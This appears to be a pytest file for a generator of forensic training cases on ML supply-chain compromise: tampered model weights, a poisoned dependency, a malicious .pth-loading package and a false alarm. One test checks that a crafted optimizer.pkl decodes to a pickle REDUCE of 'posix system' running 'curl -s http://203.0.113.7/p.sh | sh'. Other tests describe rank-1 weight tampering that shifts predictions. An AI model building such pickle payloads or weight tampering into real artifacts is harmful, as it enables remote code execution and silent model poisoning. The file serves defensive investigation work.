"""Tests of workbench.samples: determinism, layout, the crafted pickle (disassembled only), signatures, ground truth.

The crafted ``optimizer.pkl`` is only ever inspected with ``pickletools``; nothing here unpickles anything.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import pickletools
import struct
from pathlib import Path

import numpy as np
import pytest
import yaml
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from workbench import samples
from workbench.samples import build

REPO = Path(__file__).resolve().parents[1]
COMMITTED = REPO / "evidence-samples"
MODELS = {
    "tampered-weights": "sentiment-model-v2.1",
    "poisoned-dependency": "fraud-scorer-v3",
    "false-alarm": "intent-classifier-v1.0",
    "poisoned-package": "doc-embedder-v1.2",
}
COMMON = [
    "case.yaml",
    "actions.log",
    "current_hashes.txt",
    "manifest.json",
    "frozen_deps.txt",
    "processes.txt",
    "network.txt",
    "monitor/config.json",
    "monitor/alerts.jsonl",
    "predictions/baseline_distribution.json",
    "logs/pipeline.log",
    "keys/cosign.pub",
]


def _tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    dest = tmp_path_factory.mktemp("samples")
    samples.generate(dest)
    return dest


def _model(root: Path, case: str, side: str) -> Path:
    return root / case / "models" / side / MODELS[case]


def _tensors(path: Path) -> dict[str, np.ndarray]:
    """Parse a safetensors file by hand (F32/F16 as float64, BF16 widened to float32 first)."""
    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8 : 8 + n])
    header.pop("__metadata__", None)
    body = data[8 + n :]
    out = {}
    for name, info in header.items():
        start, end = info["data_offsets"]
        raw = body[start:end]
        if info["dtype"] == "BF16":
            arr = (np.frombuffer(raw, "<u2").astype(np.uint32) << 16).view(np.float32)
        else:
            arr = np.frombuffer(raw, {"F32": "<f4", "F16": "<f2"}[info["dtype"]])
        out[name] = arr.astype(np.float64).reshape(info["shape"])
    return out


def test_generation_is_byte_identical(generated: Path, tmp_path: Path) -> None:
    samples.generate(tmp_path)
    first, second = _tree(generated), _tree(tmp_path)
    assert sorted(first) == sorted(second)
    assert all(first[k] == second[k] for k in first)


def test_committed_samples_equal_a_fresh_generation(generated: Path) -> None:
    fresh = _tree(generated)
    committed = {k: v for k, v in _tree(COMMITTED).items() if k == "README.md" or k.split("/")[0] in samples.CASES}
    assert sorted(committed) == sorted(fresh), (
        "evidence-samples/ is stale: run python -m workbench.samples evidence-samples"
    )
    changed = [k for k in fresh if committed[k] != fresh[k]]
    assert not changed, f"edited by hand or stale: {changed}"


def test_total_size_under_5_mb(generated: Path) -> None:
    assert sum(len(v) for v in _tree(generated).values()) < 5 * 1024 * 1024


def test_no_machine_paths_in_output(generated: Path) -> None:
    needles = [str(generated).encode(), str(REPO).encode()]
    for rel, data in _tree(generated).items():
        assert not any(n in data for n in needles), rel


@pytest.mark.parametrize("case", samples.CASES)
def test_case_has_expected_files(generated: Path, case: str) -> None:
    root = generated / case
    model = MODELS[case]
    expected = [*COMMON, f"models/reference/{model}/model.safetensors", f"models/suspect/{model}/model.safetensors"]
    expected += [
        f"models/{s}/{model}/.signatures/manifest.{e}" for s in ("suspect", "reference") for e in ("json", "sig")
    ]
    if case == "poisoned-package":  # detected by EDR: no monitor alert, no predictions; the environment's capture
        expected = [e for e in expected if e not in ("monitor/alerts.jsonl", "predictions/baseline_distribution.json")]
        expected += [
            "python-env/1/capture.json",
            "python-env/1/files.jsonl",
            "python-env/1/tree/tokenwise_accel_init.pth",
        ]
    else:
        expected.append(
            "predictions/predictions.csv" if case == "poisoned-dependency" else "predictions/predictions.jsonl"
        )
    missing = [rel for rel in expected if not (root / rel).is_file()]
    assert not missing
    meta = yaml.safe_load((root / "case.yaml").read_text())
    assert meta["affected_models"] == [model]
    assert meta["naive_timezone"] == "UTC"
    for key in ("suspect_model", "reference_model", "public_key"):
        assert (root / meta[key]).exists()
    assert (root / f"models/suspect/{model}/COMPROMISED.txt").exists() == (case == "tampered-weights")


def test_poisoned_package_capture_lists_the_tampered_file_against_its_record(generated: Path) -> None:
    """The ground truth straight from the files: the listed digest of _runtime.py is not its RECORD's, the .pth is in
    no RECORD, and every other listed file matches its RECORD line."""
    import base64

    env = generated / "poisoned-package" / "python-env" / "1"
    listed = {r["path"]: r for r in map(json.loads, (env / "files.jsonl").read_text().splitlines())}
    recorded = {}
    for record in (env / "tree").glob("*.dist-info/RECORD"):
        for line in record.read_text().splitlines():
            path, digest, _ = line.split(",")
            if digest:
                recorded[path] = base64.urlsafe_b64decode(digest.removeprefix("sha256=") + "=").hex()
    differ = sorted(p for p, d in recorded.items() if listed[p]["sha256"] != d)
    assert differ == ["tokenwise_accel/_runtime.py"]
    assert sorted(set(listed) - set(recorded) - {p for p in listed if p.endswith("/RECORD")}) == [
        "tokenwise_accel_init.pth"
    ]
    assert listed["tokenwise_accel_init.pth"]["mtime_ns"] > listed["tokenwise_accel/__init__.py"]["mtime_ns"]


def test_generate_leaves_other_content_alone(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_text("mine")
    (tmp_path / "other-case").mkdir()
    (tmp_path / "tampered-weights").mkdir()
    (tmp_path / "tampered-weights" / "stale.txt").write_text("old")
    samples.generate(tmp_path)
    assert (tmp_path / "keep.txt").read_text() == "mine"
    assert (tmp_path / "other-case").is_dir()
    assert not (tmp_path / "tampered-weights" / "stale.txt").exists()


def test_generate_refuses_a_symlinked_case(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "false-alarm").symlink_to(target)
    with pytest.raises(ValueError, match="not a plain directory"):
        samples.generate(dest)
    assert target.is_dir()


def test_crafted_pickle_disassembles_to_posix_system_reduce(generated: Path) -> None:
    data = (_model(generated, "tampered-weights", "suspect") / "optimizer.pkl").read_bytes()
    pickletools.dis(data, out=io.StringIO())  # validates the opcode stream without executing anything
    ops = [(op.name, arg) for op, arg, _ in pickletools.genops(data)]
    assert ops[0] == ("PROTO", 2)
    i = ops.index(("GLOBAL", "posix system"))
    assert ops[i + 1] == ("BINUNICODE", "curl -s http://203.0.113.7/p.sh | sh")
    assert [name for name, _ in ops[i + 2 : i + 4]] == ["TUPLE1", "REDUCE"]
    assert ops[-1][0] == "STOP"


@pytest.mark.parametrize("case", samples.CASES)
@pytest.mark.parametrize("side", ["reference", "suspect"])
def test_manifest_signature_verifies(generated: Path, case: str, side: str) -> None:
    key = serialization.load_pem_public_key((generated / case / "keys/cosign.pub").read_bytes())
    assert isinstance(key, ec.EllipticCurvePublicKey)
    assert isinstance(key.curve, ec.SECP256R1)
    sigdir = _model(generated, case, side) / ".signatures"
    manifest = (sigdir / "manifest.json").read_bytes()
    key.verify(base64.b64decode((sigdir / "manifest.sig").read_bytes()), manifest, ec.ECDSA(hashes.SHA256()))
    assert (generated / case / "manifest.json").read_bytes() == manifest


@pytest.mark.parametrize("case", samples.CASES)
def test_files_against_manifest(generated: Path, case: str) -> None:
    folder = _model(generated, case, "suspect")
    manifest = json.loads((folder / ".signatures/manifest.json").read_text())
    mismatched = [
        f["path"]
        for f in manifest["files"]
        if hashlib.sha256((folder / f["path"]).read_bytes()).hexdigest() != f["sha256"]
    ]
    assert mismatched == (["model.safetensors"] if case == "tampered-weights" else [])


@pytest.mark.parametrize("case", samples.CASES)
def test_current_hashes_match_suspect_files(generated: Path, case: str) -> None:
    folder = _model(generated, case, "suspect")
    for line in (generated / case / "current_hashes.txt").read_text().splitlines():
        digest, path = line.split("  ", 1)
        rel = path.removeprefix(f"/models/{MODELS[case]}/")
        assert hashlib.sha256((folder / rel).read_bytes()).hexdigest() == digest, rel


def test_suspect_weights_differ_only_in_tampered_case(generated: Path) -> None:
    for case in samples.CASES:
        ref, sus = _model(generated, case, "reference"), _model(generated, case, "suspect")
        same = (ref / "model.safetensors").read_bytes() == (sus / "model.safetensors").read_bytes()
        assert same == (case != "tampered-weights"), case
        if case != "tampered-weights":
            assert _tree(ref) == _tree(sus)


def test_tampered_weights_ground_truth(generated: Path) -> None:
    ref = _tensors(_model(generated, "tampered-weights", "reference") / "model.safetensors")
    sus = _tensors(_model(generated, "tampered-weights", "suspect") / "model.safetensors")
    assert sorted(ref) == sorted(sus)
    changed = sorted(n for n in ref if not np.array_equal(ref[n], sus[n]))
    assert changed == ["embeddings.weight", "encoder.layer.0.mlp.fc2.weight"]
    sv = np.linalg.svd(sus["encoder.layer.0.mlp.fc2.weight"] - ref["encoder.layer.0.mlp.fc2.weight"], compute_uv=False)
    assert sv[1] / sv[0] < 1e-5  # rank 1 up to float32 rounding
    rows = np.flatnonzero(np.any(sus["embeddings.weight"] != ref["embeddings.weight"], axis=1)).tolist()
    assert rows == [54, 55, 56]


def test_tampered_predictions_shift_toward_positive(generated: Path) -> None:
    rows = [
        json.loads(x) for x in (generated / "tampered-weights/predictions/predictions.jsonl").read_text().splitlines()
    ]
    assert 9000 <= len(rows) <= 11000
    before = [r["predicted_class"] == "positive" for r in rows if r["timestamp"] < "2026-11-14T03:12:00"]
    after = [r["predicted_class"] == "positive" for r in rows if r["timestamp"] >= "2026-11-14T03:12:00"]
    assert 0.04 < np.mean(after) - np.mean(before) < 0.08


def test_false_alarm_drift_alert_is_reproducible(generated: Path) -> None:
    (alert,) = [json.loads(x) for x in (generated / "false-alarm/monitor/alerts.jsonl").read_text().splitlines()]
    assert alert["type"] == "BEHAVIOR_DRIFT"
    assert samples.legacy_jsd({"a": 1}, {"a": 0.5, "b": 0.5}) > 0.15
    assert samples.legacy_jsd({"a": 50, "b": 50}, {"a": 0.5, "b": 0.5}) < 1e-6


def test_github_log_lines_are_timestamped(generated: Path) -> None:
    lines = (generated / "tampered-weights/logs/pipeline.log").read_text().splitlines()
    assert lines[0].startswith("2026-11-14T03:05:41.1234567Z ")
    assert all(len(x) >= 28 and x[27] == "Z" for x in lines)
    assert sorted(lines) == lines  # timestamps increase


def test_safetensors_header_is_valid() -> None:
    data = samples.safetensors_bytes({"b": ("F32", (2,), b"\0" * 8), "a": ("F16", (1,), b"\0\0")})
    (n,) = struct.unpack("<Q", data[:8])
    assert n % 8 == 0
    header = json.loads(data[8 : 8 + n])
    assert header["a"]["data_offsets"] == [0, 2]
    assert header["b"]["data_offsets"] == [2, 10]
    assert len(data) == 8 + n + 10


def test_cli_calls_generate_with_dest(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys) -> None:
    calls = []
    written = tmp_path / "x.txt"
    written.write_text("abc")
    monkeypatch.setattr(build, "generate", lambda dest: calls.append(dest) or [written])
    assert build.main([str(tmp_path / "out")]) == 0
    assert calls == [tmp_path / "out"]
    assert "1 files, 3 bytes" in capsys.readouterr().out
